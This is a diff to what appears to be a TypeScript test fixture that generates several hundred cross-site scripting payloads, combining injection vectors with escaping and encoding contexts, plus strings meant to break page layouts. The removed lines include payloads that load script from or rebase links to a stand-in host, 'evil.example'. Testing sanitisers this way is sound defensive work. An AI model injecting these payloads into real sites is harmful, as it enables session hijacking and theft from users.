@@ -1,67 +1,73 @@
-const RUN = 'window.pwned=1';
-
-const scripts = [
-  `<script>${RUN}</script>`,
-  `<ScRiPt>${RUN}</sCrIpT>`,
-  `"><script>${RUN}</script>`,
-  `</textarea><script>${RUN}</script>`,
-  `</title><script>${RUN}</script>`,
-  `<script src=data:text/javascript,${RUN}></script>`,
-  `<script src=//evil.example/x.js></script>`,
-  `<<script>${RUN}//<</script>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<math><mtext></table></mtext><script>${RUN}</script>`,
+/** What runs where text is taken for HTML, for an address, or for a program. */
+const VECTORS: ((code: string) => string)[] = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<img src=x onerror="${code}">`,
+  (code) => `<img src=x onerror=${code}>`,
+  (code) => `<svg onload="${code}">`,
+  (code) => `<style onload="${code}"></style>`,
+  (code) => `<body onload="${code}">`,
+  (code) => `<video src=x onerror="${code}"></video>`,
+  (code) => `<audio src=x onerror="${code}"></audio>`,
+  (code) => `<video><source onerror="${code}"></video>`,
+  (code) => `<input autofocus onfocus="${code}">`,
+  (code) => `<details open ontoggle="${code}">x</details>`,
+  (code) => `<a href="javascript:${code}" tabindex=1 onfocus="${code}" autofocus>x</a>`,
+  (code) => `<iframe src="javascript:${code}"></iframe>`,
+  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
+  (code) => `<object data="javascript:${code}"></object>`,
+  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
+  (code) => `<form action="javascript:${code}"><button autofocus>x</button></form>`,
+  (code) => `[x](javascript:${code})`,
+  (code) => `{{constructor.constructor('${code}')()}}`,
 ];
 
-const handlers = [
-  'img src=x onerror',
-  'svg onload',
-  'body onload',
-  'video src=x onerror',
-  'audio src=x onerror',
-  'input autofocus onfocus',
-  'details open ontoggle',
-  'iframe onload',
-  'object data=x onerror',
-  'marquee onstart',
-  'select autofocus onfocus',
-  'div onpointerover',
-  'style onload',
-  'link rel=stylesheet href=x onerror',
-  'form onformdata',
-].map((start) => `<${start}="${RUN}">`);
-
-const links = [
-  `<a href="javascript:${RUN}">x</a>`,
-  `javascript:${RUN}`,
-  `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
-  `<form action="javascript:${RUN}"><button>x</button></form>`,
-  `<object data="javascript:${RUN}"></object>`,
-  `<embed src="javascript:${RUN}">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
-  `<base href="//evil.example/">`,
-  `[x](javascript:${RUN})`,
+/** What a text breaks out of, is nested in, or hides behind. */
+const CONTEXTS: ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `">${vector}`,
+  (vector) => `'>${vector}`,
+  (vector) => `-->${vector}<!--`,
+  (vector) => `]]>${vector}`,
+  (vector) => `</textarea>${vector}`,
+  (vector) => `</title>${vector}`,
+  (vector) => `</style>${vector}`,
+  (vector) => `</script>${vector}`,
+  (vector) => `</template>${vector}`,
+  (vector) => `</option></select>${vector}`,
+  (vector) => `<noscript><p title="</noscript>${vector}">`,
+  (vector) => `<svg><desc>${vector}</desc></svg>`,
+  (vector) => `<math><mtext>${vector}</mtext></math>`,
+  (vector) => `<table><td>${vector}</table>`,
+  (vector) => `<b\n>${vector}</b>`,
+  (vector) => `<<a|ä>${vector}`,
+  (vector) => vector.replace(/<\/?\w+/g, (tag) => tag.toUpperCase()),
+  (vector) => vector.replaceAll(' ', '/'),
+  (vector) => vector.replaceAll(' ', '\t\n'),
+  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (vector) => encodeURIComponent(vector),
+  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
+  (vector) => vector.replaceAll('<', '＜').replaceAll('>', '＞'),
+  (vector) => `\u202E${vector}\u202C\u200B\uFEFF`,
 ];
 
-const tricks = [
-  `'-(${RUN})-'`,
-  '"; window.pwned=1; //',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it pretends to be
-  '${window.pwned=1}',
-  '{{constructor.constructor("window.pwned=1")()}}',
-  '<img src=`x`onerror=window.pwned=1>',
-  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
-  '&#60;img src=x onerror=window.pwned=1&#62;',
-  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
-  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
-  '<!--<img src="--><img src=x onerror=window.pwned=1//">',
-  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
-  '<template><script>window.pwned=1</script></template>',
-  '\u202Egnp.exe\u202D <b>bidi</b>',
-  '<x contenteditable onblur=window.pwned=1>x',
-  '__proto__[pwned]=1',
-];
+/** Every vector in every context: five hundred texts. What of them runs leaves its number in `top.__hit`. */
+export const payloads = CONTEXTS.flatMap((context, c) =>
+  VECTORS.map((vector, v) => context(vector(`top.__hit.push(${c * VECTORS.length + v})`))),
+);
 
-/** Fifty texts that become code or markup wherever text is taken for HTML. */
-export const payloads = [...scripts, ...handlers, ...links, ...tricks];
+/** Texts that break a layout: each fills what it is given, or reaches out of it. */
+export const unruly = [
+  '😀'.repeat(4_000),
+  '👩‍👩‍👧‍👦'.repeat(500),
+  'x'.repeat(4_000),
+  `https://contoh.id/${'a/'.repeat(900)}`,
+  `\u202E${'kiri ke kanan '.repeat(20)}`,
+  '\u2067اختبار\u2069\u202Dabc\u202E'.repeat(60),
+  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0489'.repeat(30)}`.repeat(13),
+  `a${'\u200B\u200D\u2060\uFEFF'.repeat(500)}b`,
+  '\n'.repeat(200).replaceAll('\n', 'i\n'),
+  '\u00AD'.repeat(1_000) + 'ـ'.repeat(1_000),
+  '﷽'.repeat(200),
+  '𒐫'.repeat(200),
+];
